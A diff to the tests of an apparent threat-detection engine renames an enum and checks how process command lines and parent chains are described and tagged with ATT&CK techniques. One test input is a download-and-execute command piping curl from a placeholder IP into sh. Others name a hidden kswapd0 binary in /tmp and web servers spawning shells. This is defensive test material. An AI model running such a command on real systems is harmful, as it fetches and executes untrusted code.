@@ -16,7 +16,7 @@ from engine.knowledge.lineage_rules import STARTED
 from engine.knowledge.locations import place
 from engine.knowledge.names import name_contradiction
 from engine.knowledge.tables import blocks, fingerprint, load, techniques
-from engine.knowledge.telling import LEAVES, Part, tellings
+from engine.knowledge.telling import LEAVES, Aspect, tellings
 
 WIDEST = 26
 JUDGING = re.compile(r"anomal|suspicious|malicious|unusual", re.IGNORECASE)
@@ -89,26 +89,26 @@ def test_what_is_only_said_changes_no_score() -> None:
 def test_a_process_is_told_by_its_command_its_place_its_name_and_its_parent() -> None:
     said = tellings(("/usr/sbin/apache2", "/usr/bin/dash"), "sh -c 'curl -s http://192.0.2.7/x | sh'")
     assert [(one.part, one.phrase, one.techniques[:1]) for one in said[:2]] == [
-        (Part.COMMAND, "runs a download at once", ("T1105",)),
-        (Part.PAIR, "web server starts a shell", ("T1505.003",)),
+        (Aspect.COMMAND, "runs a download at once", ("T1105",)),
+        (Aspect.PAIR, "web server starts a shell", ("T1505.003",)),
     ]
     said = tellings(("/usr/bin/bash", "/tmp/.cache/kswapd0"))
     assert [(one.part, one.phrase) for one in said] == [
-        (Part.NAME, "named like a kernel thread"),
-        (Part.PLACE, "runs hidden in temp"),
+        (Aspect.NAME, "named like a kernel thread"),
+        (Aspect.PLACE, "runs hidden in temp"),
     ]
 
 
 def test_what_is_about_the_parent_says_so() -> None:
     said = tellings(("/tmp/.cache/kswapd0", "/usr/bin/dash"))
-    assert {one.above for one in said if one.part in (Part.NAME, Part.PLACE)} == {1}
+    assert {one.above for one in said if one.part in (Aspect.NAME, Aspect.PLACE)} == {1}
 
 
 def test_the_phrase_of_a_break_names_what_was_started() -> None:
     server = "c:\\windows\\system32\\inetsrv\\w3wp.exe"
     for name, phrase in (("cmd.exe", "web server starts a shell"), ("csc.exe", "web server starts a tool")):
         said = tellings((server, f"c:\\windows\\system32\\{name}"))
-        assert phrase in [one.phrase for one in said if one.part is Part.PAIR]
+        assert phrase in [one.phrase for one in said if one.part is Aspect.PAIR]
 
 
 @given(st.lists(st.text(max_size=40), max_size=4), st.none() | st.text(max_size=200))
